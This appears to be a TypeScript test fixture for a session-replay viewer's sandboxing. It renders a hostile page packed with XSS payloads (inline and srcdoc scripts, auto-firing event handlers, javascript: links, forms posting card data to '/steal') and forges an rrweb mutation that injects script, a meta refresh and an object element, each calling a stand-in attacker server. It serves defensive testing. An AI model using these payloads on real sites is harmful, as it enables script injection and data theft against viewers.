/** Where the hostile page's payloads try to reach. */
export interface HostileTargets {
  /** Sightline's URL, for the recorder's tag. */
  sightlineUrl: string;
  ingestKey: string;
  /** An attacker's server on the viewer's own host (`http://127.0.0.1:<port>`). */
  sameHost: string;
  /** An attacker's server on another host (`http://localhost:<port>`), beyond the replay's URL rule. */
  otherHost: string;
}

/** The flag every payload sets on the window that would run it: the viewer's, seen from the replay. */
export const PWNED_FLAG = '__pwned';

/**
 * A page a hostile site (or a stored XSS in a recorded app) could serve: inline and
 * external script, event-handler attributes that fire without a click, `javascript:`
 * links, links that would navigate the frame, the top page or a popup, forms posting
 * elsewhere, an `srcdoc` frame with its own script, CSS that fetches. Each payload sets
 * `window.parent.__pwned` (the viewer's window, from inside the replay) and calls an
 * attacker's server. Everything is inline: the page itself loads nothing from its origin.
 * (A meta refresh is not here: the recorder drops `<meta http-equiv>`, see `forgedMutation`.)
 */
export function renderHostilePage(targets: HostileTargets): string {
  const { sameHost, otherHost } = targets;
  const pwn = (name: string) =>
    `window.parent.${PWNED_FLAG}='${name}';fetch('${sameHost}/${name}');fetch('${otherHost}/${name}')`;
  return `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Hostile page</title>
  <script src="${targets.sightlineUrl}/sightline.js" data-key="${targets.ingestKey}" data-endpoint="${targets.sightlineUrl}"></script>
  <link rel="stylesheet" href="${sameHost}/linked.css">
  <style>
    @import url("${sameHost}/imported.css");
    body { font: 16px system-ui, sans-serif; margin: 24px; background: #fff url(${sameHost}/css-background.png); }
    .card { border: 1px solid #888; padding: 12px; margin: 8px 0; background-image: image-set("${sameHost}/image-set.png" 1x); }
  </style>
  <script>window.parent.${PWNED_FLAG} = true; fetch('${sameHost}/x'); fetch('${otherHost}/x')</script>
</head>
<body>
  <h1 id="hostile-title">Nothing to see here</h1>
  <div class="card" style="background-image: url('${sameHost}/inline-style.png')">A card with a background</div>
  <img id="broken-image" alt="broken" src="${sameHost}/image.png" onerror="${pwn('img-onerror')}">
  <svg width="20" height="20"><image href="${sameHost}/svg-image.png" onerror="${pwn('svg-onerror')}"/></svg>
  <details open ontoggle="${pwn('details-ontoggle')}"><summary>Details</summary>opened</details>
  <input id="autofocused" autofocus onfocus="${pwn('input-onfocus')}" value="focus me">
  <p>
    <a id="js-link" href="javascript:${pwn('javascript-link')}">A javascript: link</a>
    <a id="self-link" href="${otherHost}/self-navigation">A link</a>
    <a id="top-link" href="${otherHost}/top-navigation" target="_top">A link for the top page</a>
    <a id="popup-link" href="${otherHost}/popup" target="_blank">A link for a new window</a>
  </p>
  <form id="steal-form" action="${sameHost}/steal" method="post">
    <input name="card" value="4242 4242 4242 4242"><button id="steal-submit" type="submit">Pay</button>
  </form>
  <form id="steal-elsewhere" action="${otherHost}/steal" method="post">
    <input name="card" value="4242 4242 4242 4242"><button id="steal-elsewhere-submit" type="submit">Pay</button>
  </form>
  <button id="onclick-button" onclick="${pwn('button-onclick')}">Click me</button>
  <iframe id="srcdoc-frame" title="inner" srcdoc="<p id=inner>inner</p><script>window.top.${PWNED_FLAG}='srcdoc';fetch('${otherHost}/srcdoc')</script><img src='${sameHost}/srcdoc.png'>"></iframe>
  <p id="status">loaded</p>
</body>
</html>`;
}

/** rrweb node ids for forged nodes, far above any the recorder gives a small page. */
const FORGED_ID = 900_000;

/**
 * An rrweb mutation nobody's recorder would write, as anyone holding the org's public
 * ingest key can post it to `/v1/replay`: a meta refresh (which the recorder drops), a
 * script element with its source, an `srcdoc` frame, a plugin `<object>`, an image with a
 * relative URL (which would resolve against the viewer) and an error handler.
 */
export function forgedMutation(targets: HostileTargets, ids: { head: number; body: number }): Record<string, unknown> {
  const { sameHost, otherHost } = targets;
  const pwn = (name: string) => `window.parent.${PWNED_FLAG}='${name}';fetch('${otherHost}/${name}')`;
  const element = (id: number, tagName: string, attributes: Record<string, string>, childNodes: unknown[] = []) => ({
    type: 2,
    tagName,
    attributes,
    childNodes,
    id: FORGED_ID + id,
  });
  return {
    source: 0,
    texts: [],
    attributes: [],
    removes: [],
    adds: [
      {
        parentId: ids.head,
        nextId: null,
        node: element(1, 'meta', { 'http-equiv': 'refresh', content: `0;url=${otherHost}/forged-meta-refresh` }),
      },
      { parentId: ids.body, nextId: null, node: element(2, 'script', { id: 'forged-script' }) },
      {
        parentId: FORGED_ID + 2,
        nextId: null,
        node: { type: 3, textContent: pwn('forged-script'), id: FORGED_ID + 3 },
      },
      {
        parentId: ids.body,
        nextId: null,
        node: element(4, 'iframe', { id: 'forged-frame', srcdoc: `<script>${pwn('forged-srcdoc')}</script>` }),
      },
      { parentId: ids.body, nextId: null, node: element(5, 'object', { data: `${otherHost}/forged-object` }) },
      {
        parentId: ids.body,
        nextId: null,
        node: element(6, 'img', { id: 'forged-image', src: 'forged-relative.png', onerror: pwn('forged-onerror') }),
      },
      { parentId: ids.body, nextId: null, node: element(7, 'img', { src: `${sameHost}/forged-image.png` }) },
      { parentId: ids.body, nextId: null, node: element(8, 'p', { id: 'forged-done' }) },
    ],
  };
}
